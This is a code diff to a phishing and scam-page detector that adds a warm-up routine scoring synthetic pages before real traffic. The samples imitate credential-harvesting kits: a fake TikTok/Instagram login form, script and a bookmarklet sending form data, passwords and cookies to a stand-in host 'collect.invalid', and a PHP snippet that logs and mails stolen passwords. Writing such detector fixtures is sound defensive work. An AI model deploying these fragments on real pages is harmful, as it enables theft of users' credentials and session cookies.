@@ -20,6 +20,7 @@ import numpy as np
 from detector.config import Settings
 from detector.errors import DetectorError
 from detector.extract.features import Extraction, extract, schema_hash
+from detector.extract.literals import prepare_all
 from detector.model.artifact import Artifact, load
 from detector.model.explain import Explainer
 from detector.model.fast import Wording
@@ -30,6 +31,86 @@ from detector.records import DomainIntel, Snapshot, Verdict
 _UNSCORABLE = frozenset({"fetch.invalid_url", "fetch.unsupported_scheme"})
 
 IntelLookup = Callable[[str], DomainIntel | None]
+
+# Long enough (over ``literals.MIN_CHARS`` in every text) to take each family down its long-text
+# paths once: what a worker's first real pages would otherwise pay (tests/test_warm_up.py).
+_WARM_UP_WORDS = (
+    "Sign in with Instagram or Facebook to see who viewed your profile. Enter your password "
+    "and the one-time code to continue, then verify that you are human by completing one "
+    "offer. Generate 10k free followers and likes, unlock the full report. Someone just "
+    "received 5000 followers. Time left: 00:59. Download the app (free.apk). Search: "
+    "Suspicious activity detected: get the full report of the anonymous investigation now. "
+    "Hurry, only 3 left! This is a simulation. Can you really see who viewed your TikTok? "
+    "No: sites that claim it are scams. Not affiliated with TikTok. Privacy policy. "
+)
+_WARM_UP_SCRIPT = (
+    "var form = document.querySelector('form'); form.addEventListener('submit', function (e) {"
+    " var data = new FormData(form); var p = document.getElementById('pass').value;"
+    " fetch('https://collect.invalid/', {method: 'POST', body: data});"
+    " $.ajax({url: '/x', data: {p: p}}); var c = document.cookie;"
+    " localStorage.getItem('token'); eval(atob('YQ==')); });"
+    " setInterval(function () { bar.style.width = percent + '%'; countdown--; }, 1000);"
+    " chrome.cookies.getAll({domain: 'tiktok.com'}, function (x) {});"
+)
+_WARM_UP_SERVER = (
+    "<?php $u = $_POST['username']; $p = $_POST['password']; "
+    "file_put_contents('log.txt', $u . ':' . $p, FILE_APPEND); mail('x@invalid', 's', $p); "
+    "if (password_verify($p, $hash)) { header('Location: https://www.tiktok.com/'); } ?>"
+)
+
+
+def warm_up_snapshots() -> list[dict[str, Any]]:
+    """Synthetic snapshots of each kind, written here (no page from any data set)."""
+    words = _WARM_UP_WORDS * 6
+    page = (
+        "<!doctype html><html><head><title>warm up: who viewed your TikTok</title>"
+        '<meta name="description" content="warm up"><meta property="og:title" content="x">'
+        '<script src="https://www.google.com/recaptcha/api.js"></script></head><body>'
+        f"<h1>warm up</h1><h2>{words[:120]}</h2><h3>Instagram</h3><p>{words}</p>"
+        '<form action="https://collect.invalid/login.php" method="post">'
+        '<input type="text" name="username" placeholder="Username or email">'
+        '<input type="password" id="pass" name="password" autocomplete="current-password">'
+        '<input type="text" name="otp" placeholder="One-time code">'
+        '<input type="text" name="search" placeholder="Search"><input type="hidden" name="token" value="abc">'
+        '<button type="submit">Log in with Facebook</button></form>'
+        '<a href="https://www.tiktok.com/v2/auth/authorize/?client_key=abc&scope=user.info.basic,'
+        'video.upload&response_type=code&redirect_uri=https://warm-up.invalid/cb">Continue with '
+        "TikTok</a>"
+        "<a href=\"javascript:(function(){var s=document.createElement('script');"
+        "s.src='https://collect.invalid/'+document.cookie;document.body.appendChild(s)})()\">"
+        "drag me</a>"
+        f'<a href="https://warm-up.invalid/free.apk">{words[:200]}</a>'
+        '<div role="button">Unlock</div><iframe src="https://warm-up.invalid/f"></iframe>'
+        f"<script>{_WARM_UP_SCRIPT * 3}</script><script>og_load(); call_locker();</script>"
+        "</body></html>"
+    )
+    return [
+        {"url": "https://warm-up.invalid/", "html": "<title>warm up</title><p>hello</p>"},
+        {
+            "url": "https://tiktok-views.warm-up.invalid/login",
+            "html": page,
+            "scripts": [{"url": "https://warm-up.invalid/a.js", "text": _WARM_UP_SCRIPT * 3}],
+        },
+        {
+            "url": "https://warm-up.invalid/next",
+            "html": f"<title>Continue</title><p>{words}</p><form><input type=email name=email>"
+            "<input name=q placeholder=Search><button>Continue</button></form>",
+        },
+        {"kind": "page", "text": _WARM_UP_SERVER * 4},
+        {"kind": "page", "text": _WARM_UP_SCRIPT * 4},
+        {"kind": "ad", "text": words},
+        {
+            "kind": "extension_listing",
+            "listing": {
+                "name": "warm up",
+                "description": words,
+                "permissions": ["cookies", "storage", "webRequest"],
+                "host_permissions": ["https://*.tiktok.com/*"],
+                "manifest": {"name": "warm up", "manifest_version": 3},
+            },
+        },
+        {"kind": "app_listing", "listing": {"name": "warm up", "description": words}},
+    ]
 
 
 def default_model_dir() -> Path:
@@ -87,6 +168,15 @@ class Detector:
             "libraries",
         )
         return {k: side.get(k) for k in keys} | {"model": self.model_name}
+
+    def warm_up(self) -> list[Verdict]:
+        """Score one synthetic snapshot of each kind, then compile every literal database, so
+        the first real page costs what the next ones do (``literals.prepare_all``). Call it on
+        the thread that will score: scratch spaces are per thread. Returns the verdicts (a
+        caller may check that none failed)."""
+        verdicts = list(self.score_many(warm_up_snapshots()))
+        prepare_all()
+        return verdicts
 
     def score(self, snapshot: Snapshot | Mapping[str, Any]) -> Verdict:
         """Score one snapshot (a ``Snapshot`` or a plain dict)."""
